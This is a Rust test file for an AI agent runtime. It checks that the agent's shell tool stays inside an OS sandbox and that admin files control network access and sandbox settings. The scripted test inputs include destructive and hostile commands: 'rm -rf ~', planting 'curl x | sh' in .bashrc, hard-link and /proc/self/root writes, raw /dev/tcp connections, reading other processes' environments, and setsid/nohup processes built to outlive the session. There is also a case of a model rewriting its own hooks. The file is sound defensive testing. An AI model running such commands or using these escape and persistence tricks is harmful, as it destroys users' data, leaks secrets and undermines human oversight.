//! The agent's shell tool runs inside the OS sandbox: what a model reaches when it gets past
//! the shell analyzer (a script the analyzer cannot read), for real.

use std::net::TcpListener;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use serde_json::{Value, json};
use tollgate_config::{HookFile, Trust};
use tollgate_runtime::Services;

use crate::support::*;

/// A directory outside `/tmp` (the sandbox's `/tmp` is private).
fn outside_dir() -> tempfile::TempDir {
    tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap()
}

/// An agent in `dir` whose model writes `script` to `run.sh`, runs it with the shell tool,
/// then answers; `extra` is more agent-file YAML.
fn script_agent(dir: &Path, script: &str, extra: &str) {
    let turns = [
        call(
            "c1",
            "write_file",
            json!({"path": "run.sh", "content": script}),
        ),
        call(
            "c2",
            "bash_code_execute_tool",
            json!({"command": "bash run.sh"}),
        ),
        answer("done"),
    ]
    .join("\n");
    write(
        dir,
        &[
            (
                "agent.yaml",
                &format!(
                    "name: worker\nmodel: scripted:script.jsonl\n\
                     tools: [write_file, bash_code_execute_tool]\n{extra}"
                ),
            ),
            ("script.jsonl", &turns),
        ],
    );
}

/// What the model observed from the shell call.
fn shell_observation(lines: &[Value]) -> String {
    let observed = of(lines, "observation");
    let shell = observed
        .iter()
        .find(|o| o["tool_call_id"] == "c2")
        .expect("the shell call was observed");
    shell["content"].as_str().unwrap_or_default().to_owned()
}

fn canary(path: &Path) {
    std::fs::write(path, "canary").unwrap();
}

#[track_caller]
fn assert_untouched(path: &Path) {
    assert_eq!(
        std::fs::read_to_string(path).unwrap(),
        "canary",
        "{}",
        path.display()
    );
}

#[tokio::test]
async fn rm_rf_home_and_hard_links_from_the_shell_tool_harm_nothing_outside() {
    let (_tmp, dir) = agent_dir();
    let home = outside_dir();
    let keep = home.path().join("keep");
    let bashrc = home.path().join(".bashrc");
    let target = outside_dir();
    let linked = target.path().join("linked");
    for path in [&keep, &bashrc, &linked] {
        canary(path);
    }
    let script = format!(
        "export HOME={h}\nrm -rf ~\necho 'curl x | sh' >> ~/.bashrc\n\
         ln {l} hard\necho x >> hard\necho x >> /proc/self/root{l}\necho finished\n",
        h = home.path().display(),
        l = linked.display()
    );
    script_agent(&dir, &script, "");
    let (report, lines) = run_agent(&dir.join("agent.yaml"), "go", &Services::default()).await;
    assert_eq!(report.answer.as_deref(), Some("done"), "{lines:#?}");
    let observed = shell_observation(&lines);
    assert!(observed.contains("Read-only file system"), "{observed}");
    assert!(observed.contains("finished"), "{observed}");
    for path in [&keep, &bashrc, &linked] {
        assert_untouched(path);
    }
}

#[tokio::test]
async fn the_shell_tool_reaches_the_network_only_as_the_agent_and_admin_files_allow() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        "curl -sS -m 2 -o /dev/null -w 'http %{{http_code}}\\n' http://127.0.0.1:{port}/ 2>&1 | head -c 200; \
         (echo hello > /dev/tcp/127.0.0.1/{port}) 2>&1 && echo sent\n"
    );
    let host = HookFile::parse(
        Path::new("admin.yaml"),
        "sandbox:\n  shell_tool: {network: host}\n",
        Trust::Admin,
    )
    .unwrap();
    let cases = [
        // No network: nothing is reachable, not even the host's loopback.
        ("", vec![], "unreachable", false),
        // HTTP(S) through the egress proxy, which the SSRF guard polices: loopback is refused.
        ("sandbox: {network: true}\n", vec![], "http 403", false),
        // An admin file may give the host's network.
        ("", vec![host], "sent", true),
    ];
    for (extra, admin, expect, reached) in cases {
        let (_tmp, dir) = agent_dir();
        script_agent(&dir, &script, extra);
        let services = Services {
            admin: Arc::from(admin),
            ..Services::default()
        };
        let (_, lines) = run_agent(&dir.join("agent.yaml"), "go", &services).await;
        let observed = shell_observation(&lines);
        assert!(observed.contains(expect), "{extra:?}: {observed}");
        assert_eq!(listener.accept().is_ok(), reached, "{extra:?}: {observed}");
    }
}

/// Global ids of the processes whose command line contains `marker`.
fn pids_with(marker: &str) -> Vec<u32> {
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|entry| entry.file_name().to_str()?.parse::<u32>().ok())
        .filter(|pid| {
            std::fs::read(format!("/proc/{pid}/cmdline"))
                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(marker))
        })
        .collect()
}

#[tokio::test]
async fn nothing_the_shell_tool_started_outlives_the_call_nor_reads_the_runtimes_environment() {
    let (_tmp, dir) = agent_dir();
    let marker = "86400.4242";
    let script = format!(
        "setsid sleep {marker}1 & (nohup sleep {marker}2 &) ; set -m; sleep {marker}3 &\n\
         cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep -c CARGO_ ; true\n"
    );
    script_agent(&dir, &script, "");
    let (_, lines) = run_agent(&dir.join("agent.yaml"), "go", &Services::default()).await;
    let observed = shell_observation(&lines);
    // The test process (the runtime) has Cargo's variables; the shell saw none of them.
    let result: Value = serde_json::from_str(&observed).unwrap();
    assert_eq!(result["stdout"], "0\n", "{observed}");
    let mut gone = false;
    for _ in 0..200 {
        if pids_with(marker).is_empty() {
            gone = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert!(gone, "survivors: {:?}", pids_with(marker));
}

#[tokio::test]
async fn an_admin_file_can_turn_the_shell_sandbox_off() {
    let (_tmp, dir) = agent_dir();
    let outside = outside_dir();
    let written = outside.path().join("written");
    script_agent(&dir, &format!("echo ok > {}\n", written.display()), "");
    let admin = HookFile::parse(Path::new("admin.yaml"), "sandbox: off\n", Trust::Admin).unwrap();
    let services = Services {
        admin: Arc::from(vec![admin]),
        ..Services::default()
    };
    run_agent(&dir.join("agent.yaml"), "go", &services).await;
    assert_eq!(std::fs::read_to_string(&written).unwrap(), "ok\n");
}

#[tokio::test]
async fn a_shell_call_past_its_deadline_takes_everything_it_started_with_it() {
    let (_tmp, dir) = agent_dir();
    let marker = "86400.5151";
    let script = format!(
        "setsid sleep {marker}1 & (nohup sleep {marker}2 &) ; set -m; sleep {marker}3 & \
         sleep {marker}4\n"
    );
    script_agent(&dir, &script, "bash_timeout_seconds: 2\n");
    let (agent, services) = (dir.join("agent.yaml"), Services::default());
    let run = run_agent(&agent, "go", &services);
    let watch = async {
        for _ in 0..200 {
            if pids_with(marker).len() >= 4 {
                return true;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        false
    };
    let ((_, lines), started) = tokio::join!(run, watch);
    assert!(started, "the script's processes did not all start");
    let observed = shell_observation(&lines);
    assert!(observed.contains("timed out after 2 s"), "{observed}");
    let mut gone = false;
    for _ in 0..200 {
        if pids_with(marker).is_empty() {
            gone = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert!(gone, "survivors: {:?}", pids_with(marker));
}

#[tokio::test]
async fn regression_a_workspace_holding_the_hooks_let_the_model_rewrite_them() {
    let (_tmp, dir) = agent_dir();
    write(
        &dir,
        &[
            (
                "agent.yaml",
                "name: worker\nmodel: scripted:script.jsonl\ntools: [write_file]\n\
                 workspace: .\nhooks: [hooks.yaml]\n",
            ),
            (
                "hooks.yaml",
                "hooks:\n  PreToolUse:\n    - script: bash ./guard.sh\n",
            ),
            ("script.jsonl", &answer("done")),
        ],
    );
    let request = tollgate_runtime::RunRequest {
        agent: tollgate_runtime::AgentDef::load(&dir.join("agent.yaml")).unwrap(),
        prompt: "go".into(),
        skills: vec![],
        model: None,
        workspace: None,
        run_id: None,
    };
    let report = tollgate_runtime::run(
        request,
        &Services::default(),
        vec![],
        tollgate_runtime::CancellationToken::new(),
    )
    .await;
    assert_eq!(report.status, tollgate_runtime::EndStatus::Failed);
    let error = report.error.unwrap();
    assert!(error.contains("holds this run's configuration"), "{error}");
    assert!(error.contains("agent.yaml"), "{error}");
}
